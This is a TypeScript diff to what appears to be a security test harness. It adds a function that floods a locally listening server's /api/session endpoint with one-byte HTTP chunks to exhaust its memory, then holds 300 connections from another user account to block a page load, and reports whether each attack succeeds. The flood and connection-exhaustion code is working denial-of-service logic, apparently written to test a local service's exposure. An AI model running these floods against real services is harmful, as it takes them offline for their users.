@@ -1,9 +1,10 @@
 /** What listens on this computer is open to every program of every user of it. */
 import { readFileSync } from 'node:fs';
-import type { Host } from './first-user.ts';
+import { openPage, type Host } from './first-user.ts';
 import type { Outcome } from './other-user.ts';
 import type { Stage } from './stage.ts';
-import { tellAbsent, tellOutcome } from './stage.ts';
+import { tell, tellAbsent, tellOutcome } from './stage.ts';
+import { holdAs } from './users.ts';
 
 type Place = { readonly address: string; readonly port: number };
 
@@ -101,6 +102,48 @@ export async function attackLocalHost({ attack }: Stage, { address, port }: Host
   const mostBytes = 256 * 1024 ** 2;
   tellOutcome(
     'the local host: a body without an end',
-    await attack({ kind: 'flood', address, port, head, mostBytes }),
+    await attack({ kind: 'flood', address, port, head, piece: ' '.repeat(64 * 1024), mostBytes }),
   );
+}
+
+/** The host needs 10 MB for them. Each chunk kept by itself took gigabytes. */
+const MOST_GROWTH_BYTES = 200 * 1024 ** 2;
+const PAGE_MS = 5_000;
+
+/** Six connections fill the memory, then 300 take every place; meanwhile the person opens a page. */
+export async function attackPlaces(
+  { browser, computer, attack }: Stage,
+  { address, port, pid }: Host,
+  askNewUrl: () => Promise<string>,
+): Promise<void> {
+  const place = { address, port };
+  const lines = `Host: ${address}:${port}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked`;
+  const head = `POST /api/session HTTP/1.1\r\n${lines}\r\n\r\n`;
+  const chunk = '1\r\nx\r\n';
+  const before = mostBytesOf(pid);
+  const flood = { ...place, head, piece: chunk.repeat(10_000), mostBytes: 64 * 1024 ** 2 };
+  await Promise.all(Array.from({ length: 6 }, () => attack({ kind: 'flood', ...flood })));
+  const grown = mostBytesOf(pid) - before;
+  const megabytes = `${Math.round(grown / 1024 ** 2)} MB more`;
+  tell('the local host: one-byte chunks fill its memory', grown > MOST_GROWTH_BYTES, megabytes);
+
+  const url = await askNewUrl();
+  const sent = { first: head, next: chunk };
+  const release = await holdAs(computer.second, { ...place, count: 300, sent });
+  const begun = performance.now();
+  const page = await openPage(browser, url).catch(() => null);
+  const tookMs = Math.round(performance.now() - begun);
+  await page?.close();
+  release();
+  tell(
+    'the local host: 300 connections keep the page out',
+    page === null || tookMs > PAGE_MS,
+    `${tookMs} ms`,
+  );
+}
+
+/** The most memory a process ever had. */
+function mostBytesOf(pid: number): number {
+  const [, kilobytes = '0'] = /VmHWM:\s+(\d+)/u.exec(readFileSync(`/proc/${pid}/status`, 'utf8')) ?? [];
+  return Number(kilobytes) * 1024;
 }
